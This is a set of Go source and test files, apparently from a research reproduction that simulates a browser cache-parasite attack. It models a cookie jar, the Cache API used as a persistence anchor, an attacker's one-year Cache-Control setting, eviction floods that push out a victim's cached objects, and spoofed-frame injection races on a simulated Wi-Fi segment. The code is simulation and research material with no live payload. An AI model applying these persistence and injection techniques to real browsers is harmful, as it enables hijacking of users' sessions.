	m, ok := j.cookies[domain]
	if !ok {
		m = make(map[string]string)
		j.cookies[domain] = m
	}
	m[name] = value
}

// Get reads a cookie value.
func (j *CookieJar) Get(domain, name string) (string, bool) {
	m, ok := j.cookies[domain]
	if !ok {
		return "", false
	}
	v, ok := m[name]
	return v, ok
}

// All returns a "name=value; ..." header string for domain, with names
// sorted for determinism.
func (j *CookieJar) All(domain string) string {
	m := j.cookies[domain]
	if len(m) == 0 {
		return ""
	}
	names := make([]string, 0, len(m))
	for n := range m {
		names = append(names, n)
	}
	sort.Strings(names)
	parts := make([]string, 0, len(names))
	for _, n := range names {
		parts = append(parts, n+"="+m[n])
	}
	return strings.Join(parts, "; ")
}

// Clear removes every cookie (the "clear cookies" action of Table III).
func (j *CookieJar) Clear() {
	j.cookies = make(map[string]map[string]string)
}

// Len counts stored cookies across all domains.
func (j *CookieJar) Len() int {
	n := 0
	for _, m := range j.cookies {
		n += len(m)
	}
	return n
}

// CacheAPIStore models the Service-Worker Cache API storage surveyed in
// Table III: objects stored there survive hard reloads (Ctrl+F5) and
// "clear cache", and are removed only together with the site's cookies
// and site data. The parasite abuses it as its persistence anchor.
type CacheAPIStore struct {
	entries map[string]*Entry // keyed by URL
}

// NewCacheAPIStore returns an empty Cache API store.
func NewCacheAPIStore() *CacheAPIStore {
	return &CacheAPIStore{entries: make(map[string]*Entry)}
}

// Put stores an entry. The Cache API ignores HTTP freshness: entries live
// until explicitly deleted.
func (s *CacheAPIStore) Put(e *Entry) {
	if e == nil {
		return
	}
	s.entries[e.URL] = e
}

// Get returns the stored entry for url.
func (s *CacheAPIStore) Get(url string) (*Entry, bool) {
	e, ok := s.entries[url]
	return e, ok
}

// Len counts entries.
func (s *CacheAPIStore) Len() int { return len(s.entries) }

// Clear wipes the store. The browser invokes this only on "clear cookies
// and site data", never on cache clearing (Table III).
func (s *CacheAPIStore) Clear() {
	s.entries = make(map[string]*Entry)
}
