// Package httpcache models the client-side HTTP caches the parasite
// infects: the browser's main object cache (keyed by URL name, §VI-A
// "browsers' caches use names of files as keys"), the Cache API storage
// (Table III) and the cookie jar. It implements the relevant subset of
// RFC 7234 freshness semantics plus the capacity-eviction behaviour the
// eviction module (§IV) exploits.
package httpcache

import (
	"strconv"
	"strings"
	"time"
)

// CacheControl is the parsed form of a Cache-Control header value.
type CacheControl struct {
	MaxAge    time.Duration
	HasMaxAge bool
	NoStore   bool
	NoCache   bool
	Immutable bool
	Public    bool
	Private   bool
}

// ParseCacheControl parses a Cache-Control header value. Unknown
// directives are ignored, as RFC 7234 requires.
func ParseCacheControl(v string) CacheControl {
	var cc CacheControl
	for _, part := range strings.Split(v, ",") {
		d := strings.TrimSpace(strings.ToLower(part))
		switch {
		case d == "no-store":
			cc.NoStore = true
		case d == "no-cache":
			cc.NoCache = true
		case d == "immutable":
			cc.Immutable = true
		case d == "public":
			cc.Public = true
		case d == "private":
			cc.Private = true
		case strings.HasPrefix(d, "max-age="):
			secs, err := strconv.Atoi(strings.TrimPrefix(d, "max-age="))
			if err == nil && secs >= 0 {
				cc.MaxAge = time.Duration(secs) * time.Second
				cc.HasMaxAge = true
			}
		case strings.HasPrefix(d, "s-maxage="):
			// Shared-cache lifetime; we treat it as max-age when no
			// max-age is present (the proxycache package cares).
			secs, err := strconv.Atoi(strings.TrimPrefix(d, "s-maxage="))
			if err == nil && secs >= 0 && !cc.HasMaxAge {
				cc.MaxAge = time.Duration(secs) * time.Second
				cc.HasMaxAge = true
			}
		}
	}
	return cc
}

// String re-renders the directives in canonical order.
func (cc CacheControl) String() string {
	var parts []string
	if cc.Public {
		parts = append(parts, "public")
	}
	if cc.Private {
		parts = append(parts, "private")
	}
	if cc.HasMaxAge {
		parts = append(parts, "max-age="+strconv.Itoa(int(cc.MaxAge/time.Second)))
	}
	if cc.Immutable {
		parts = append(parts, "immutable")
	}
	if cc.NoCache {
		parts = append(parts, "no-cache")
	}
	if cc.NoStore {
		parts = append(parts, "no-store")
	}
	return strings.Join(parts, ", ")
}

// MaxFreshness is the Cache-Control value the attacker sets on infected
// objects: "the cache duration is set by HTTP headers like the
// Cache-Control header ... so that the browser of the victim keeps the
// modified copy of the object as long as possible" (§VI-A). One year is
// the conventional practical maximum.
const MaxFreshness = "public, max-age=31536000, immutable"
