package httpcache

import (
	"fmt"
	"testing"
	"testing/quick"
	"time"

	"masterparasite/internal/httpsim"
)

func respWithCC(cc string, body string) *httpsim.Response {
	r := httpsim.NewResponse(200, []byte(body))
	if cc != "" {
		r.Header.Set("Cache-Control", cc)
	}
	return r
}

func TestParseCacheControl(t *testing.T) {
	cases := []struct {
		in   string
		want CacheControl
	}{
		{"max-age=60", CacheControl{MaxAge: time.Minute, HasMaxAge: true}},
		{"public, max-age=31536000, immutable", CacheControl{Public: true, MaxAge: 31536000 * time.Second, HasMaxAge: true, Immutable: true}},
		{"no-store", CacheControl{NoStore: true}},
		{"no-cache, private", CacheControl{NoCache: true, Private: true}},
		{"s-maxage=120", CacheControl{MaxAge: 2 * time.Minute, HasMaxAge: true}},
		{"max-age=10, s-maxage=120", CacheControl{MaxAge: 10 * time.Second, HasMaxAge: true}},
		{"max-age=bogus", CacheControl{}},
		{"", CacheControl{}},
		{"unknown-directive, max-age=5", CacheControl{MaxAge: 5 * time.Second, HasMaxAge: true}},
	}
	for _, c := range cases {
		if got := ParseCacheControl(c.in); got != c.want {
			t.Errorf("ParseCacheControl(%q) = %+v, want %+v", c.in, got, c.want)
		}
	}
}

func TestCacheControlStringRoundTrip(t *testing.T) {
	in := "public, max-age=3600, immutable, no-cache"
	cc := ParseCacheControl(in)
	if got := ParseCacheControl(cc.String()); got != cc {
		t.Fatalf("round trip mismatch: %+v vs %+v", got, cc)
	}
}

func TestEntryFromResponseFreshness(t *testing.T) {
	e := EntryFromResponse(0, "a.com/x.js", "a.com", respWithCC("max-age=60", "body"))
	if e == nil {
		t.Fatal("entry is nil")
	}
	if !e.Fresh(59 * time.Second) {
		t.Fatal("entry stale before max-age")
	}
	if e.Fresh(61 * time.Second) {
		t.Fatal("entry fresh after max-age")
	}
}

func TestEntryNoStoreUncacheable(t *testing.T) {
	if e := EntryFromResponse(0, "a.com/x", "a.com", respWithCC("no-store", "x")); e != nil {
		t.Fatal("no-store response produced an entry")
	}
}

func TestEntryNoCacheNeverFresh(t *testing.T) {
	e := EntryFromResponse(0, "a.com/x", "a.com", respWithCC("no-cache, max-age=60", "x"))
	if e == nil {
		t.Fatal("nil entry")
	}
	if e.Fresh(time.Second) {
		t.Fatal("no-cache entry reported fresh")
	}
}

func TestEntryHeuristicTTL(t *testing.T) {
	e := EntryFromResponse(0, "a.com/x", "a.com", respWithCC("", "x"))
	if e.TTL != DefaultHeuristicTTL {
		t.Fatalf("TTL = %v, want heuristic %v", e.TTL, DefaultHeuristicTTL)
	}
}

func TestEntryToResponseIndependence(t *testing.T) {
	e := EntryFromResponse(0, "a.com/x", "a.com", respWithCC("max-age=1", "abc"))
	r := e.ToResponse()
	r.Body[0] = 'X'
	r.Header.Set("Injected", "yes")
	if e.Body[0] != 'a' || e.Header.Has("Injected") {
		t.Fatal("ToResponse aliases the entry")
	}
}

func TestStorePutGet(t *testing.T) {
	s := NewStore(Options{Capacity: 1 << 20})
	e := EntryFromResponse(0, "a.com/x.js", "a.com", respWithCC("max-age=60", "body"))
	s.Put("a.com", e)
	got, ok := s.Get("a.com", "a.com/x.js")
	if !ok || string(got.Body) != "body" {
		t.Fatal("get after put failed")
	}
	if _, ok := s.GetFresh(30*time.Second, "a.com", "a.com/x.js"); !ok {
		t.Fatal("fresh lookup failed")
	}
	if _, ok := s.GetFresh(2*time.Minute, "a.com", "a.com/x.js"); ok {
		t.Fatal("stale entry returned as fresh")
	}
}

func TestStoreReplaceSameKey(t *testing.T) {
	s := NewStore(Options{Capacity: 1 << 20})
	s.Put("", EntryFromResponse(0, "a.com/x", "a.com", respWithCC("max-age=9", "old")))
	s.Put("", EntryFromResponse(0, "a.com/x", "a.com", respWithCC("max-age=9", "new")))
	if s.Len() != 1 {
		t.Fatalf("len = %d, want 1", s.Len())
	}
	got, _ := s.Get("", "a.com/x")
	if string(got.Body) != "new" {
		t.Fatalf("body = %q, want new", got.Body)
	}
}

func TestLRUEvictionOrder(t *testing.T) {
	// Three ~equal entries in a cache that fits two: touching the oldest
	// should protect it under LRU.
	mkEntry := func(url string) *Entry {
		return EntryFromResponse(0, url, "a.com", respWithCC("max-age=60", "0123456789"))
	}
	one := mkEntry("a.com/1")
	cap2 := int64(one.Size()*2 + 4)
	s := NewStore(Options{Capacity: cap2, Policy: LRU})
	s.Put("", mkEntry("a.com/1"))
	s.Put("", mkEntry("a.com/2"))
	s.Get("", "a.com/1") // touch 1 → 2 becomes LRU victim
	s.Put("", mkEntry("a.com/3"))
	if !s.Contains("", "a.com/1") || s.Contains("", "a.com/2") || !s.Contains("", "a.com/3") {
		t.Fatalf("LRU kept %v", s.URLs())
	}
	if s.Stats().Evictions != 1 {
		t.Fatalf("evictions = %d, want 1", s.Stats().Evictions)
	}
}

func TestFIFOEvictionIgnoresRecency(t *testing.T) {
	mkEntry := func(url string) *Entry {
		return EntryFromResponse(0, url, "a.com", respWithCC("max-age=60", "0123456789"))
	}
	one := mkEntry("a.com/1")
	s := NewStore(Options{Capacity: int64(one.Size()*2 + 4), Policy: FIFO})
	s.Put("", mkEntry("a.com/1"))
	s.Put("", mkEntry("a.com/2"))
	s.Get("", "a.com/1") // touching must not matter under FIFO
	s.Put("", mkEntry("a.com/3"))
	if s.Contains("", "a.com/1") {
		t.Fatalf("FIFO kept the oldest entry: %v", s.URLs())
	}
}

func TestEvictionFloodSupplantsVictimObjects(t *testing.T) {
	// The §IV attack in miniature: cached objects of popular.com are
	// supplanted by a flood of attacker junk objects.
	s := NewStore(Options{Capacity: 4096})
	s.Put("", EntryFromResponse(0, "popular.com/app.js", "popular.com", respWithCC("max-age=3600", "important")))
	for i := 0; i < 100; i++ {
		url := fmt.Sprintf("attacker.com/junk%02d.jpg", i)
		s.Put("", EntryFromResponse(0, url, "attacker.com", respWithCC("max-age=3600", string(make([]byte, 200)))))
	}
	if s.Contains("", "popular.com/app.js") {
		t.Fatal("victim object survived the eviction flood")
	}
	if s.Size() > s.Capacity() {
		t.Fatalf("size %d over capacity %d", s.Size(), s.Capacity())
	}
}

func TestBallooningNeverEvicts(t *testing.T) {
	// IE's behaviour (Table I): memory grows without bound instead of
	// evicting — the DOS remark.
	s := NewStore(Options{Capacity: 1024, Ballooning: true})
	for i := 0; i < 50; i++ {
		url := fmt.Sprintf("x.com/%d", i)
		s.Put("", EntryFromResponse(0, url, "x.com", respWithCC("max-age=60", string(make([]byte, 100)))))
	}
	if s.Stats().Evictions != 0 {
		t.Fatal("ballooning store evicted")
	}
	if s.Size() <= s.Capacity() {
		t.Fatal("ballooning store did not exceed capacity")
	}
	if s.Len() != 50 {
		t.Fatalf("len = %d, want 50", s.Len())
	}
}

func TestPartitionedStoreIsolatesContexts(t *testing.T) {
	// §VIII countermeasure: with partitioning, an entry cached under one
	// top-level site is invisible to another.
	s := NewStore(Options{Capacity: 1 << 20, Partitioned: true})
	s.Put("site-a.com", EntryFromResponse(0, "cdn.com/lib.js", "cdn.com", respWithCC("max-age=60", "lib")))
	if _, ok := s.Get("site-b.com", "cdn.com/lib.js"); ok {
		t.Fatal("partitioned cache leaked across contexts")
	}
	if _, ok := s.Get("site-a.com", "cdn.com/lib.js"); !ok {
		t.Fatal("partitioned cache lost its own entry")
	}
}

func TestUnpartitionedStoreShared(t *testing.T) {
	s := NewStore(Options{Capacity: 1 << 20})
	s.Put("site-a.com", EntryFromResponse(0, "cdn.com/lib.js", "cdn.com", respWithCC("max-age=60", "lib")))
	if _, ok := s.Get("site-b.com", "cdn.com/lib.js"); !ok {
		t.Fatal("shared cache should serve any context")
	}
}

func TestClearAndDelete(t *testing.T) {
	s := NewStore(Options{Capacity: 1 << 20})
	s.Put("", EntryFromResponse(0, "a.com/1", "a.com", respWithCC("max-age=60", "x")))
	s.Put("", EntryFromResponse(0, "a.com/2", "a.com", respWithCC("max-age=60", "y")))
	s.Delete("", "a.com/1")
	if s.Contains("", "a.com/1") || !s.Contains("", "a.com/2") {
		t.Fatal("delete misbehaved")
	}
	s.Clear()
	if s.Len() != 0 || s.Size() != 0 {
		t.Fatal("clear left residue")
	}
}

func TestDomains(t *testing.T) {
	s := NewStore(Options{})
	s.Put("", EntryFromResponse(0, "b.com/1", "b.com", respWithCC("max-age=60", "x")))
	s.Put("", EntryFromResponse(0, "a.com/1", "a.com", respWithCC("max-age=60", "x")))
	s.Put("", EntryFromResponse(0, "a.com/2", "a.com", respWithCC("max-age=60", "x")))
	d := s.Domains()
	if len(d) != 2 || d[0] != "a.com" || d[1] != "b.com" {
		t.Fatalf("domains = %v", d)
	}
}

func TestCountWhere(t *testing.T) {
	s := NewStore(Options{})
	s.Put("", EntryFromResponse(0, "a.com/1.js", "a.com", respWithCC("max-age=60", "x")))
	s.Put("", EntryFromResponse(0, "a.com/1.png", "a.com", respWithCC("max-age=60", "x")))
	n := s.CountWhere(func(e *Entry) bool { return e.URL[len(e.URL)-3:] == ".js" })
	if n != 1 {
		t.Fatalf("CountWhere = %d", n)
	}
}

func TestSizeInvariantUnderCapacity(t *testing.T) {
	// Property: after any sequence of puts, size ≤ capacity (non-
	// ballooning) and size equals the sum of entry sizes.
	f := func(bodies [][]byte) bool {
		s := NewStore(Options{Capacity: 2048})
		for i, b := range bodies {
			if len(b) > 512 {
				b = b[:512]
			}
			url := fmt.Sprintf("d%d.com/o", i)
			s.Put("", EntryFromResponse(0, url, "d.com", respWithCC("max-age=5", string(b))))
		}
		var sum int64
		for _, u := range s.URLs() {
			e, ok := s.Get("", u)
			if !ok {
				return false
			}
			sum += int64(e.Size())
		}
		return s.Size() <= 2048 && s.Size() == sum
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}

func TestCookieJar(t *testing.T) {
	j := NewCookieJar()
	j.Set("bank.com", "session", "s3cr3t")
	j.Set("bank.com", "abtest", "7")
	j.Set("mail.com", "sid", "x")
	if v, ok := j.Get("bank.com", "session"); !ok || v != "s3cr3t" {
		t.Fatal("cookie get failed")
	}
	if got := j.All("bank.com"); got != "abtest=7; session=s3cr3t" {
		t.Fatalf("All = %q", got)
	}
	if got := j.All("none.com"); got != "" {
		t.Fatalf("All(none) = %q", got)
	}
	if j.Len() != 3 {
		t.Fatalf("len = %d", j.Len())
	}
	j.Clear()
	if j.Len() != 0 {
		t.Fatal("clear failed")
	}
}

func TestCacheAPIStoreLifecycle(t *testing.T) {
	s := NewCacheAPIStore()
	e := EntryFromResponse(0, "top1.com/persistent.js", "top1.com", respWithCC("max-age=1", "parasite"))
	s.Put(e)
	// Cache API entries ignore HTTP freshness entirely.
	got, ok := s.Get("top1.com/persistent.js")
	if !ok || string(got.Body) != "parasite" {
		t.Fatal("cache API get failed")
	}
	if s.Len() != 1 {
		t.Fatalf("len = %d", s.Len())
	}
	s.Clear()
	if s.Len() != 0 {
		t.Fatal("clear failed")
	}
}

func TestStatsCounting(t *testing.T) {
	s := NewStore(Options{})
	s.Put("", EntryFromResponse(0, "a.com/x", "a.com", respWithCC("max-age=60", "x")))
	s.Get("", "a.com/x")
	s.Get("", "a.com/missing")
	st := s.Stats()
	if st.Puts != 1 || st.Hits != 1 || st.Misses != 1 {
		t.Fatalf("stats = %+v", st)
	}
}

func TestPolicyString(t *testing.T) {
	if LRU.String() != "LRU" || FIFO.String() != "FIFO" || Policy(0).String() != "unknown" {
		t.Fatal("policy strings wrong")
	}
}
