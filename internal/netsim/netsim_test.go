package netsim

import (
	"testing"
	"testing/quick"
	"time"
)

func TestUnicastDelivery(t *testing.T) {
	n := New()
	seg := n.MustSegment("wifi", time.Millisecond)
	var got []string
	seg.MustAttach("10.0.0.1", 0, func(_ time.Duration, p Packet) {
		got = append(got, string(p.Payload))
	})
	src := seg.MustAttach("10.0.0.2", 0, nil)
	src.Send(Packet{Dst: "10.0.0.1", Proto: ProtoRaw, Payload: []byte("hello")})
	n.Run(0)
	if len(got) != 1 || got[0] != "hello" {
		t.Fatalf("got %v, want [hello]", got)
	}
	if n.Delivered() != 1 {
		t.Fatalf("delivered = %d, want 1", n.Delivered())
	}
}

func TestNoDeliveryToWrongAddr(t *testing.T) {
	n := New()
	seg := n.MustSegment("wifi", time.Millisecond)
	delivered := 0
	seg.MustAttach("10.0.0.1", 0, func(_ time.Duration, p Packet) { delivered++ })
	src := seg.MustAttach("10.0.0.2", 0, nil)
	src.Send(Packet{Dst: "10.0.0.99", Payload: []byte("x")})
	n.Run(0)
	if delivered != 0 {
		t.Fatalf("delivered = %d, want 0", delivered)
	}
}

func TestTapSeesAllFrames(t *testing.T) {
	n := New()
	seg := n.MustSegment("wifi", time.Millisecond)
	seg.MustAttach("10.0.0.1", 0, func(time.Duration, Packet) {})
	src := seg.MustAttach("10.0.0.2", 0, nil)
	tapped := 0
	seg.AttachTap(0, func(_ time.Duration, p Packet) { tapped++ })
	src.Send(Packet{Dst: "10.0.0.1", Payload: []byte("a")})
	src.Send(Packet{Dst: "10.0.0.99", Payload: []byte("b")}) // no addressee
	n.Run(0)
	if tapped != 2 {
		t.Fatalf("tap saw %d frames, want 2", tapped)
	}
}

func TestTapInjectionRaceWinsWithLowerLatency(t *testing.T) {
	// The eavesdropper (1ms away) must deliver its spoofed frame before
	// the legitimate sender that is 10ms away — the core race of §V.
	n := New()
	seg := n.MustSegment("wifi", 0)
	var order []string
	seg.MustAttach("victim", time.Millisecond, func(_ time.Duration, p Packet) {
		order = append(order, string(p.Payload))
	})
	server := seg.MustAttach("server", 10*time.Millisecond, nil)
	tap := seg.AttachTap(time.Millisecond, nil)

	server.Send(Packet{Dst: "victim", Payload: []byte("legit")})
	tap.Inject(Packet{Src: "server", Dst: "victim", Payload: []byte("spoof")})
	n.Run(0)

	if len(order) != 2 {
		t.Fatalf("deliveries = %d, want 2", len(order))
	}
	if order[0] != "spoof" {
		t.Fatalf("first delivery = %q, want spoof", order[0])
	}
	if n.Injected() != 1 {
		t.Fatalf("injected = %d, want 1", n.Injected())
	}
}

func TestSpoofedSourcePreserved(t *testing.T) {
	n := New()
	seg := n.MustSegment("wifi", 0)
	var src Addr
	seg.MustAttach("victim", 0, func(_ time.Duration, p Packet) { src = p.Src })
	tap := seg.AttachTap(0, nil)
	tap.Inject(Packet{Src: "server", Dst: "victim", Payload: []byte("x")})
	n.Run(0)
	if src != "server" {
		t.Fatalf("src = %q, want server (spoofed)", src)
	}
}

func TestDeterministicOrderingAtEqualTimestamps(t *testing.T) {
	n := New()
	seg := n.MustSegment("lan", 0)
	var order []string
	seg.MustAttach("dst", 0, func(_ time.Duration, p Packet) {
		order = append(order, string(p.Payload))
	})
	src := seg.MustAttach("src", 0, nil)
	for _, s := range []string{"1", "2", "3", "4"} {
		src.Send(Packet{Dst: "dst", Payload: []byte(s)})
	}
	n.Run(0)
	want := "1234"
	got := ""
	for _, s := range order {
		got += s
	}
	if got != want {
		t.Fatalf("order = %q, want %q", got, want)
	}
}

func TestSegmentDownDropsFrames(t *testing.T) {
	n := New()
	seg := n.MustSegment("wifi", 0)
	delivered := 0
	seg.MustAttach("dst", 0, func(time.Duration, Packet) { delivered++ })
	src := seg.MustAttach("src", 0, nil)
	seg.SetDown(true)
	src.Send(Packet{Dst: "dst", Payload: []byte("x")})
	n.Run(0)
	if delivered != 0 {
		t.Fatalf("delivered = %d on a down segment, want 0", delivered)
	}
	seg.SetDown(false)
	src.Send(Packet{Dst: "dst", Payload: []byte("y")})
	n.Run(0)
	if delivered != 1 {
		t.Fatalf("delivered = %d after segment up, want 1", delivered)
	}
}

func TestScheduleOrderingAndClock(t *testing.T) {
	n := New()
	var at []time.Duration
	n.Schedule(3*time.Millisecond, func() { at = append(at, n.Now()) })
	n.Schedule(time.Millisecond, func() { at = append(at, n.Now()) })
	n.Run(0)
	if len(at) != 2 || at[0] != time.Millisecond || at[1] != 3*time.Millisecond {
		t.Fatalf("run times = %v", at)
	}
}

func TestRunUntilAdvancesClock(t *testing.T) {
	n := New()
	fired := false
	n.Schedule(10*time.Millisecond, func() { fired = true })
	n.RunUntil(5 * time.Millisecond)
	if fired {
		t.Fatal("event at 10ms fired before deadline 5ms")
	}
	if n.Now() != 5*time.Millisecond {
		t.Fatalf("now = %v, want 5ms", n.Now())
	}
	n.RunUntil(20 * time.Millisecond)
	if !fired {
		t.Fatal("event did not fire by 20ms")
	}
}

func TestRunMaxEventsGuard(t *testing.T) {
	n := New()
	var loop func()
	count := 0
	loop = func() {
		count++
		n.Schedule(time.Millisecond, loop)
	}
	n.Schedule(0, loop)
	executed := n.Run(50)
	if executed != 50 {
		t.Fatalf("executed = %d, want 50 (guard)", executed)
	}
}

func TestDuplicateAttachRejected(t *testing.T) {
	n := New()
	seg := n.MustSegment("lan", 0)
	seg.MustAttach("a", 0, nil)
	if _, err := seg.Attach("a", 0, nil); err == nil {
		t.Fatal("duplicate attach succeeded, want error")
	}
}

func TestDuplicateSegmentRejected(t *testing.T) {
	n := New()
	n.MustSegment("lan", 0)
	if _, err := n.NewSegment("lan", 0); err == nil {
		t.Fatal("duplicate segment succeeded, want error")
	}
}

func TestRouterForwardsBetweenSegments(t *testing.T) {
	n := New()
	wifi := n.MustSegment("wifi", time.Millisecond)
	wan := n.MustSegment("wan", 5*time.Millisecond)
	var got string
	wan.MustAttach("server", 0, func(_ time.Duration, p Packet) { got = string(p.Payload) })
	client := wifi.MustAttach("client", 0, nil)
	if _, err := NewRouter("gw", wifi, wan, time.Millisecond); err != nil {
		t.Fatalf("NewRouter: %v", err)
	}
	client.Send(Packet{Dst: "server", Payload: []byte("req")})
	n.Run(0)
	if got != "req" {
		t.Fatalf("server got %q, want req", got)
	}
}

func TestRouterPreservesSpoofedSource(t *testing.T) {
	n := New()
	wifi := n.MustSegment("wifi", time.Millisecond)
	wan := n.MustSegment("wan", time.Millisecond)
	var src Addr
	wan.MustAttach("server", 0, func(_ time.Duration, p Packet) { src = p.Src })
	if _, err := NewRouter("gw", wifi, wan, 0); err != nil {
		t.Fatalf("NewRouter: %v", err)
	}
	tap := wifi.AttachTap(0, nil)
	tap.Inject(Packet{Src: "someone-else", Dst: "server", Payload: []byte("x")})
	n.Run(0)
	if src != "someone-else" {
		t.Fatalf("forwarded src = %q, want someone-else", src)
	}
}

func TestTraceEvents(t *testing.T) {
	n := New()
	seg := n.MustSegment("wifi", 0)
	seg.MustAttach("dst", 0, func(time.Duration, Packet) {})
	seg.AttachTap(0, func(time.Duration, Packet) {})
	src := seg.MustAttach("src", 0, nil)
	var events []TraceEvent
	n.SetTrace(func(e TraceEvent) { events = append(events, e) })
	src.Send(Packet{Dst: "dst", Proto: ProtoTCP, Payload: []byte("abc")})
	n.Run(0)
	if len(events) != 2 {
		t.Fatalf("trace events = %d, want 2 (unicast + tap)", len(events))
	}
	tapped := 0
	for _, e := range events {
		if e.Tapped {
			tapped++
		}
		if e.Size != 3 || e.Proto != ProtoTCP || e.Segment != "wifi" {
			t.Fatalf("bad trace event: %+v", e)
		}
	}
	if tapped != 1 {
		t.Fatalf("tapped events = %d, want 1", tapped)
	}
}

func TestPacketCloneIndependence(t *testing.T) {
	p := Packet{Src: "a", Dst: "b", Payload: []byte("abc")}
	c := p.Clone()
	c.Payload[0] = 'X'
	if p.Payload[0] != 'a' {
		t.Fatal("Clone aliases the original payload")
	}
}

func TestPayloadIsolationBetweenReceivers(t *testing.T) {
	// A receiver that mutates its payload must not affect the tap's copy.
	n := New()
	seg := n.MustSegment("wifi", 0)
	seg.MustAttach("dst", 0, func(_ time.Duration, p Packet) { p.Payload[0] = 'X' })
	var tapSaw byte
	seg.AttachTap(time.Millisecond, func(_ time.Duration, p Packet) { tapSaw = p.Payload[0] })
	src := seg.MustAttach("src", 0, nil)
	src.Send(Packet{Dst: "dst", Payload: []byte("abc")})
	n.Run(0)
	if tapSaw != 'a' {
		t.Fatalf("tap saw %q, want 'a' (payload aliased)", tapSaw)
	}
}

func TestQuickDeliveryLatency(t *testing.T) {
	// Property: delivery time equals senderDelay + segment latency +
	// receiverDelay for any non-negative delays.
	f := func(sd, sl, rd uint16) bool {
		n := New()
		segLat := time.Duration(sl) * time.Microsecond
		seg := n.MustSegment("s", segLat)
		var deliveredAt time.Duration = -1
		seg.MustAttach("dst", time.Duration(rd)*time.Microsecond,
			func(now time.Duration, _ Packet) { deliveredAt = now })
		src := seg.MustAttach("src", time.Duration(sd)*time.Microsecond, nil)
		src.Send(Packet{Dst: "dst"})
		n.Run(0)
		want := time.Duration(sd)*time.Microsecond + segLat + time.Duration(rd)*time.Microsecond
		return deliveredAt == want
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestProtocolString(t *testing.T) {
	cases := []struct {
		p    Protocol
		want string
	}{
		{ProtoRaw, "raw"},
		{ProtoTCP, "tcp"},
		{Protocol(42), "proto(42)"},
	}
	for _, c := range cases {
		if got := c.p.String(); got != c.want {
			t.Errorf("%d.String() = %q, want %q", c.p, got, c.want)
		}
	}
}

func TestEmptyPayloadCloneDoesNotAlias(t *testing.T) {
	// A zero-length payload carved from a larger buffer must not leak
	// capacity into the clone: appending to the clone may never scribble
	// on the original backing array.
	backing := []byte("secret")
	p := Packet{Src: "a", Dst: "b", Payload: backing[:0]}
	c := p.Clone()
	c.Payload = append(c.Payload, 'X')
	if backing[0] != 's' {
		t.Fatal("Clone of an empty payload aliases the original backing array")
	}
}

func TestEmptyFrameInjectionStillTraces(t *testing.T) {
	// Zero-length frames (bare ACK-style probes) must still be delivered
	// and traced — the pooled frame path must not special-case them away.
	n := New()
	seg := n.MustSegment("wifi", 0)
	delivered := 0
	seg.MustAttach("dst", 0, func(_ time.Duration, p Packet) {
		delivered++
		if len(p.Payload) != 0 {
			t.Errorf("payload = %q, want empty", p.Payload)
		}
	})
	tapped := 0
	seg.AttachTap(0, func(time.Duration, Packet) { tapped++ })
	var events []TraceEvent
	n.SetTrace(func(e TraceEvent) { events = append(events, e) })
	tap := seg.AttachTap(0, nil)
	tap.Inject(Packet{Src: "ghost", Dst: "dst", Proto: ProtoTCP})
	n.Run(0)
	if delivered != 1 || tapped != 1 {
		t.Fatalf("delivered=%d tapped=%d, want 1/1", delivered, tapped)
	}
	if len(events) != 2 {
		t.Fatalf("trace events = %d, want 2", len(events))
	}
	for _, e := range events {
		if e.Size != 0 {
			t.Fatalf("trace size = %d, want 0", e.Size)
		}
	}
}

func TestTapCopyIsolatedFromUnicastMutation(t *testing.T) {
	// Copy-on-tap: the tap's view must survive even when the unicast
	// receiver runs first and mutates its (zero-copy) payload.
	n := New()
	seg := n.MustSegment("wifi", 0)
	seg.MustAttach("dst", 0, func(_ time.Duration, p Packet) { p.Payload[0] = 'X' })
	var tapSaw []byte
	seg.AttachTap(time.Millisecond, func(_ time.Duration, p Packet) {
		tapSaw = append(tapSaw[:0], p.Payload...)
	})
	src := seg.MustAttach("src", 0, nil)
	for i := 0; i < 3; i++ { // repeat so pooled frames get reused
		src.Send(Packet{Dst: "dst", Payload: []byte("abc")})
		n.Run(0)
		if string(tapSaw) != "abc" {
			t.Fatalf("round %d: tap saw %q, want abc", i, tapSaw)
		}
	}
}

// TestDeliveryAllocs locks the steady-state data plane at zero
// allocations per delivered frame: pooled frames, slab events, no
// closures on the delivery path. Skipped in -short mode: the CI race
// detector perturbs counts.
func TestDeliveryAllocs(t *testing.T) {
	if testing.Short() {
		t.Skip("allocation counts shift under -race; tier-1 runs this")
	}
	n := New()
	seg := n.MustSegment("wifi", time.Millisecond)
	got := 0
	seg.MustAttach("dst", 0, func(_ time.Duration, p Packet) { got += len(p.Payload) })
	seg.AttachTap(0, func(_ time.Duration, p Packet) { got += len(p.Payload) })
	src := seg.MustAttach("src", 0, nil)
	payload := make([]byte, 1460)
	send := func() {
		src.Send(Packet{Dst: "dst", Proto: ProtoTCP, Payload: payload})
		n.Run(0)
	}
	for i := 0; i < 16; i++ {
		send() // warm the frame pool and event slab
	}
	allocs := testing.AllocsPerRun(500, send)
	if allocs > 0 {
		t.Errorf("netsim delivery allocs/op = %.1f, want 0", allocs)
	}
	if got == 0 {
		t.Fatal("no payload delivered")
	}
}
