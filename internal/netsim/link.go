package netsim

import (
	"fmt"
	"sort"
	"strings"
	"time"
)

// LinkProfile is the fault model of one segment: the knobs a real link
// would expose through tc/netem (loss, jitter, reordering, duplication,
// bandwidth). A segment without a profile — or with a Clean one — is
// the historical perfect wire: zero PRNG draws, byte-identical wire
// events. Faults are drawn from a per-segment PRNG seeded from
// (Seed, segment name) only, so a faulted run is a pure function of the
// profile and the send sequence — never of wall clock, goroutine
// scheduling, or the -parallel worker count.
type LinkProfile struct {
	// Name labels the profile in artifacts and CLI flags.
	Name string
	// Loss is the probability a unicast delivery is dropped on the
	// link (taps still observe the send — an eavesdropper at the access
	// point hears frames the distant addressee loses).
	Loss float64
	// Jitter adds a uniform extra delivery delay in [0, Jitter) per
	// delivered copy.
	Jitter time.Duration
	// Reorder is the probability a delivered copy is additionally held
	// back by ReorderDelay, letting later sends overtake it.
	Reorder      float64
	ReorderDelay time.Duration
	// Duplicate is the probability the addressee receives the frame
	// twice (the extra copy draws its own jitter/reorder delays).
	Duplicate float64
	// Bandwidth caps the link in bytes per simulated second: frames
	// queue behind each other and occupy the wire for size/Bandwidth.
	// 0 means unlimited.
	Bandwidth int64
	// Seed is the fault-PRNG seed, mixed with the segment name.
	Seed uint64
}

// Clean reports whether the profile injects no faults at all; a clean
// profile keeps the segment on the historical zero-draw fast path.
func (p LinkProfile) Clean() bool {
